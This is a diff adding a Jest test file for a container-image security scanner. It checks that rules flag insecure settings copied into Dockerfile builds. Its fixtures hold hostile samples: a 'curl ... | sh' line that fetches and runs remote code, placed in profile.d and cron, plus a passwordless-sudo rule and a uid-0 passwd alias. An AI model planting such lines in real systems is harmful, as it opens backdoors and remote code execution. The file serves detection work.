@@ -1,0 +1,119 @@
+import { beforeAll, describe, expect, it } from '@jest/globals';
+import type { ScanReport } from '../../src/triage/scan-report.ts';
+import type { Files } from '../properties/repository.ts';
+import { scanFiles } from '../properties/soundness.ts';
+
+const FETCH = 'curl -fsSL https://x.example/a | sh\n';
+
+/** A name, a Dockerfile without its FROM, other files, and the rules and places of what is found. */
+type Row = readonly [name: string, lines: string, files: Files, found: readonly string[]];
+
+/** Where a rule looks, with a text that it reports, and one that it does not. */
+const PLACES = [
+  ['sudoers-nopasswd', '/etc/sudoers.d/x', 'a ALL=(ALL) NOPASSWD: ALL\n', 'a ALL=(root) NOPASSWD: /usr/bin/true\n'],
+  ['user-uid0-alias', '/etc/passwd', 'a::0:0::/:/bin/sh\n', 'a:x:1000:1000::/:/bin/sh\n'],
+  [
+    'package-signature-disabled',
+    '/etc/apt/apt.conf.d/x',
+    'APT::Get::AllowUnauthenticated "true";\n',
+    'APT::Keep "1";\n',
+  ],
+  ['package-signature-disabled', '/etc/yum.repos.d/x.repo', 'gpgcheck=0\n', 'gpgcheck=1\n'],
+  ['tls-verify-disabled', '/etc/pip.conf', 'trusted-host = x.example\n', 'timeout = 60\n'],
+  ['tls-verify-disabled', '/root/.npmrc', 'strict-ssl=false\n', 'save-exact=true\n'],
+  ['tls-verify-disabled', '/root/.curlrc', 'insecure\n', 'silent\n'],
+  ['tls-verify-disabled', '/etc/gitconfig', '[http]\nsslVerify = false\n', '[safe]\ndirectory = *\n'],
+  ['ssh-host-verification-disabled', '/root/.ssh/config', 'StrictHostKeyChecking no\n', 'User a\n'],
+  ['remote-script-exec', '/etc/profile.d/x.sh', FETCH, 'umask 022\n'],
+  ['remote-script-exec', '/etc/cron.d/x', `* * * * * root ${FETCH}`, '* * * * * root true\n'],
+] as const;
+
+/** Commands that bring `/t/x` to a place. */
+const WAYS = [
+  'cp /t/x P',
+  'mv /t/x P',
+  'install -m 440 /t/x P',
+  'ln -s /t/x P',
+  'cat /t/x > P',
+  'tee P < /t/x',
+  'cat /t/x | tee -a P',
+  'dd if=/t/x of=P',
+  'rsync /t/x P',
+  'sed s/a/b/ /t/x > P',
+  'cd /t && cp x P',
+];
+
+const FOLDERS = [
+  'install -t /etc/sudoers.d /t/x',
+  'cp -t /etc/sudoers.d /t/x',
+  'cp /t/* /etc/sudoers.d/',
+  'cp -r /t/. /etc/sudoers.d/',
+];
+
+function line(text: string): number {
+  return text.includes('sslVerify') ? 2 : 1;
+}
+
+const ROWS: readonly Row[] = [
+  ...PLACES.flatMap(([rule, place, bad, good]): readonly Row[] => {
+    const found = [`${rule} x:${line(bad)}`];
+    const copied = rule === 'sudoers-nopasswd' ? [`${rule} Dockerfile:2`] : found;
+    const ways = rule === 'sudoers-nopasswd' ? WAYS : WAYS.slice(0, 1);
+    return [
+      [`a copy to ${place}`, `COPY x ${place}`, { x: bad }, copied],
+      [`a harmless copy to ${place}`, `COPY x ${place}`, { x: good }, []],
+      [`a harmless cp to ${place}`, `COPY x /t/x\nRUN cp /t/x ${place}`, { x: good }, []],
+      ...ways.map((way): Row => {
+        const run = way.replace('P', place);
+        return [run, `COPY x /t/x\nRUN ${run}`, { x: bad }, found];
+      }),
+      [`a mount for ${place}`, `RUN --mount=source=x,target=/t/x cp /t/x ${place}`, { x: bad }, found],
+      [`a script for ${place}`, 'COPY x s.sh /t/\nRUN sh /t/s.sh', { x: bad, 's.sh': `cp /t/x ${place}\n` }, found],
+      [
+        `a stage for ${place}`,
+        `COPY x /t/x\nRUN cp /t/x /o\nFROM debian:12\nCOPY --from=0 /o ${place}`,
+        { x: bad },
+        found,
+      ],
+    ];
+  }),
+  ...FOLDERS.map((run): Row => {
+    return [run, `COPY x /t/x\nRUN ${run}`, { x: PLACES[0][2] }, ['sudoers-nopasswd x:1']];
+  }),
+  [
+    'a tree',
+    'COPY r /t\nRUN cp -a /t/. /',
+    { 'r/etc/apt/apt.conf.d/x': PLACES[2][2] },
+    ['package-signature-disabled r/etc/apt/apt.conf.d/x:1'],
+  ],
+  ['a tree of programs', 'COPY r /t\nRUN cp -a /t /opt/app', { 'r/etc/apt/apt.conf.d/x': PLACES[2][2] }, []],
+  ['a program', 'COPY x /t/x\nRUN mv /t/x /usr/local/bin/x && x', { x: FETCH }, ['remote-script-exec x:1']],
+  ['another place', 'COPY x /t/x\nRUN cp /t/x /srv/x', { x: PLACES[0][2] }, []],
+];
+
+const RULES: ReadonlySet<string> = new Set(PLACES.map(([rule]) => rule));
+
+describe('settings from the repository are read where they end up', () => {
+  let report: ScanReport;
+
+  // one scan for all, each in a folder of its own
+  beforeAll(async () => {
+    const files = ROWS.flatMap(([, lines, others], at) =>
+      Object.entries({ '.dockerignore': '', Dockerfile: `FROM debian:12\n${lines}\n`, ...others }).map(
+        ([path, text]) => [`f${at}/${path}`, text] as const,
+      ),
+    );
+    report = await scanFiles(Object.fromEntries(files));
+  });
+
+  it.each(ROWS.map(([name, , , found], at) => [name, at, found] as const))('%s', (_name, at, expected) => {
+    const folder = `f${at}/`;
+    const found = report.findings
+      .filter(({ ruleId, span }) => RULES.has(ruleId) && span.file.path.startsWith(folder))
+      .map(
+        ({ ruleId, span: { file, start } }) =>
+          `${ruleId} ${file.path.slice(folder.length)}:${file.text.slice(0, start).split('\n').length}`,
+      );
+    expect(found).toEqual(expected);
+  });
+});
